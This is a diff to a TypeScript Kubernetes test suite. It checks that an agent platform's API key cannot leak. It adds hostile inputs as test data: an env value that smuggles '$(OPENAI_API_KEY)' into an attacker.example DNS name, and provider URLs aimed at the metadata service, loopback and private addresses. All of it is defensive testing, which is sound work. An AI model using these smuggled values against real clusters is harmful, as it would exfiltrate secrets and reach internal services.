@@ -19,6 +19,7 @@ import { bundleRuntime } from '../../agent-runtime/build.ts';
 import { testEnv } from '../env/inject.ts';
 import { harness } from '../support/control-plane-harness.ts';
 import { type FakeLlm, startFakeLlm } from '../support/fake-llm.ts';
+import { kubeletEnv } from '../support/kubelet-env.ts';
 import { scratchDir } from '../support/scratch.ts';
 
 const PLATFORM_KEY = `sk-platform-${randomBytes(12).toString('hex')}`;
@@ -26,6 +27,8 @@ const OWN_KEY = `sk-own-${randomBytes(12).toString('hex')}`;
 /** Dotted on purpose: the naming rule alone would give it to an agent named "kt-platform". */
 const PROVIDER_SECRET = 'kt-platform.provider';
 const OWN_SECRET = 'kt-own.llm';
+/** A host of the user's choosing: in the cluster, only https:// leaves for the internet. */
+const CAPTURE_HOST_URL = 'https://capture.example/v1';
 
 let platformLlm: FakeLlm;
 let allowedLlm: FakeLlm;
@@ -42,6 +45,7 @@ beforeAll(async () => {
   platformLlm = await startFakeLlm({ apiKey: PLATFORM_KEY });
   allowedLlm = await startFakeLlm({ apiKey: PLATFORM_KEY });
   capture = await startFakeLlm();
+  STAND_INS.set(CAPTURE_HOST_URL, () => capture.baseURL);
   const { core } = admin();
   const namespace = testEnv().namespace;
   for (const [name, data] of [
@@ -61,10 +65,13 @@ afterAll(async () => {
     await core.deleteNamespacedSecret({ name, namespace: testEnv().namespace }).catch(() => {});
 });
 
-/** The pod's env as the kubelet would build it: values, and Secret keys read from the cluster. */
+/**
+ * The pod's env as the kubelet would build it: Secret keys read from the cluster, and values
+ * expanded as Kubernetes expands them (`$(NAME)` to an earlier variable, `$$` to `$`).
+ */
 async function resolvedEnv(env: V1EnvVar[]): Promise<Record<string, string>> {
   const { core } = admin();
-  const resolved: Record<string, string> = {};
+  const items: Parameters<typeof kubeletEnv>[0] = [];
   for (const item of env) {
     const ref = item.valueFrom?.secretKeyRef;
     if (ref) {
@@ -72,13 +79,21 @@ async function resolvedEnv(env: V1EnvVar[]): Promise<Record<string, string>> {
         name: ref.name as string,
         namespace: testEnv().namespace,
       });
-      resolved[item.name] = Buffer.from(secret.data?.[ref.key] ?? '', 'base64').toString('utf8');
-    } else resolved[item.name] = item.value ?? '';
+      const fromSource = Buffer.from(secret.data?.[ref.key] ?? '', 'base64').toString('utf8');
+      items.push({ name: item.name, fromSource });
+    } else items.push({ name: item.name, value: item.value ?? '' });
   }
-  return resolved;
+  return kubeletEnv(items);
 }
 
 /** Runs the agent the cluster holds: its Deployment's env and its ConfigMap's config, on loopback. */
+/**
+ * Where a public https:// host a config names is served here: the capture server on loopback.
+ * Neither the cluster's DNS nor a certificate for it can run in the test, so the process gets
+ * the loopback URL in place of exactly that one base URL; everything else is the pod's env.
+ */
+const STAND_INS = new Map<string, () => string>();
+
 async function runAsItsPodWould(agent: string, bundlePath: string): Promise<string> {
   const { core, apps } = admin();
   const namespace = testEnv().namespace;
@@ -88,6 +103,8 @@ async function runAsItsPodWould(agent: string, bundlePath: string): Promise<stri
   const configPath = join(dir, 'agent.json');
   await writeFile(configPath, configMap.data?.['agent.json'] ?? '');
   const env = await resolvedEnv(deployment.spec?.template.spec?.containers[0]?.env ?? []);
+  const standIn = env.OPENAI_BASE_URL && STAND_INS.get(env.OPENAI_BASE_URL);
+  if (standIn) env.OPENAI_BASE_URL = standIn();
   const child = spawn(process.execPath, [bundlePath], {
     env: {
       PATH: process.env.PATH ?? '',
@@ -207,6 +224,60 @@ describe("the platform's key goes only to the platform's base URLs", () => {
         /own Secrets/,
       ],
       [
+        'the key as a DNS label: the resolver searches every name under LOCALDOMAIN (issue 18)',
+        { name: 'kt-x', env: [{ name: 'LOCALDOMAIN', value: '$(OPENAI_API_KEY).x.attacker.example' }] },
+        'env[0].name',
+        /LOCALDOMAIN is reserved: names matching LOCALDOMAIN may not be set .*how host names resolve/,
+      ],
+      [
+        'resolver options of its own',
+        { name: 'kt-x', env: [{ name: 'RES_OPTIONS', value: 'ndots:15' }] },
+        'env[0].name',
+        /RES_OPTIONS is reserved/,
+      ],
+      [
+        'host aliases of its own',
+        { name: 'kt-x', env: [{ name: 'HOSTALIASES', value: '/tmp/aliases' }] },
+        'env[0].name',
+        /HOSTALIASES is reserved/,
+      ],
+      [
+        'the metadata service as a model',
+        {
+          name: 'kt-x',
+          provider: { baseUrl: 'http://169.254.169.254/v1', apiKey: secret('kt-x.llm', 'key') },
+        },
+        'provider.baseUrl',
+        /must not name a link-local address .*\(got "http:\/\/169.254.169.254\/v1"\)/,
+      ],
+      [
+        'loopback written as a decimal number',
+        {
+          name: 'kt-x',
+          provider: { baseUrl: 'http://2130706433:8080/v1', apiKey: secret('kt-x.llm', 'key') },
+        },
+        'provider.baseUrl',
+        /must not name a loopback address/,
+      ],
+      [
+        'a private address written in hex',
+        { name: 'kt-x', provider: { baseUrl: 'http://0xa.0.0.1/v1', apiKey: secret('kt-x.llm', 'key') } },
+        'provider.baseUrl',
+        /must not name a private address/,
+      ],
+      [
+        'plain http to a host of its own, which a search domain could make an attacker’s',
+        {
+          name: 'kt-x',
+          provider: {
+            baseUrl: 'http://vllm.models.svc.attacker.example:8000/v1',
+            apiKey: secret('kt-x.llm', 'key'),
+          },
+        },
+        'provider.baseUrl',
+        /must use https:\/\/ unless the platform lists it/,
+      ],
+      [
         'a base URL with credentials',
         { name: 'kt-x', provider: { baseUrl: captureUrl.replace('http://', 'http://user:pw@') } },
         'provider.baseUrl',
@@ -227,13 +298,36 @@ describe("the platform's key goes only to the platform's base URLs", () => {
     expect(await (await providers.store()).list()).toEqual([]);
   });
 
+  it('never expands $(OPENAI_API_KEY) in an env value: the API server stores it literal, the pod gets it as written', async () => {
+    const { call } = setup();
+    const written = '$(OPENAI_API_KEY).x.attacker.example';
+    const deployed = await call('POST', '/deploy', {
+      name: 'kt-leaky',
+      env: [{ name: 'GREETING', value: written }],
+    });
+    expect(deployed.status, JSON.stringify(deployed.json)).toBe(201);
+    const { apps } = admin();
+    const stored = await apps.readNamespacedDeployment({ name: 'kt-leaky', namespace: testEnv().namespace });
+    const env = stored.spec?.template.spec?.containers[0]?.env ?? [];
+    expect(env.find((item) => item.name === 'GREETING')?.value).toBe('$$(OPENAI_API_KEY).x.attacker.example');
+    // The platform's key is defined before GREETING: unescaped, the kubelet would put it there.
+    expect(env.findIndex((item) => item.name === 'OPENAI_API_KEY')).toBeLessThan(
+      env.findIndex((item) => item.name === 'GREETING'),
+    );
+    const podEnv = await resolvedEnv(env);
+    expect(podEnv.OPENAI_API_KEY).toBe(PLATFORM_KEY);
+    expect(podEnv.GREETING).toBe(written);
+    expect(Object.values(podEnv).filter((value) => value.includes(PLATFORM_KEY))).toEqual([PLATFORM_KEY]);
+    expect((await call('DELETE', '/deployments/kt-leaky')).status).toBe(200);
+  });
+
   it('pairs it only with those base URLs in the cluster, and the capture server never sees it', async () => {
     const { call } = setup();
     const deployed = await call('POST', '/deploy', {
       agents: [
         { name: 'kt-plain' },
         { name: 'kt-allowed', provider: { baseUrl: allowedLlm.baseURL } },
-        { name: 'kt-own', provider: { baseUrl: capture.baseURL, apiKey: { name: OWN_SECRET, key: 'key' } } },
+        { name: 'kt-own', provider: { baseUrl: CAPTURE_HOST_URL, apiKey: { name: OWN_SECRET, key: 'key' } } },
       ],
     });
     expect(deployed.status, JSON.stringify(deployed.json)).toBe(201);
@@ -265,9 +359,36 @@ describe("the platform's key goes only to the platform's base URLs", () => {
       name: 'kt-own',
       namespace: testEnv().namespace,
     });
-    expect(policy.spec?.egress?.[1]?.to).toEqual([
-      { ipBlock: { cidr: '0.0.0.0/0', except: ['10.244.0.0/16', '10.245.0.0/16', '169.254.0.0/16'] } },
-    ]);
+    expect(policy.spec?.egress?.[0]).toEqual({
+      to: [
+        {
+          namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'kube-system' } },
+          podSelector: { matchLabels: { 'k8s-app': 'kube-dns' } },
+        },
+      ],
+      ports: [
+        { protocol: 'UDP', port: 53 },
+        { protocol: 'TCP', port: 53 },
+      ],
+    });
+    expect(policy.spec?.egress?.[1]).toEqual({
+      to: [
+        {
+          ipBlock: {
+            cidr: '0.0.0.0/0',
+            except: ['10.0.0.0/8', '172.16.0.0/12', '192.168.0.0/16', '100.64.0.0/10', '169.254.0.0/16'],
+          },
+        },
+      ],
+      ports: [{ protocol: 'TCP', port: 443 }],
+    });
+    expect(policy.spec?.egress).toHaveLength(2);
+    // The platform's own base URL is plain http on loopback here: no rule opens it to the internet.
+    const plain = await networking.readNamespacedNetworkPolicy({
+      name: 'kt-plain',
+      namespace: testEnv().namespace,
+    });
+    expect(plain.spec?.egress?.[1]?.ports).toEqual([{ protocol: 'TCP', port: 443 }]);
     expect(policy.spec?.ingress?.[0]?._from).toEqual([
       { namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'ingress-nginx' } } },
     ]);
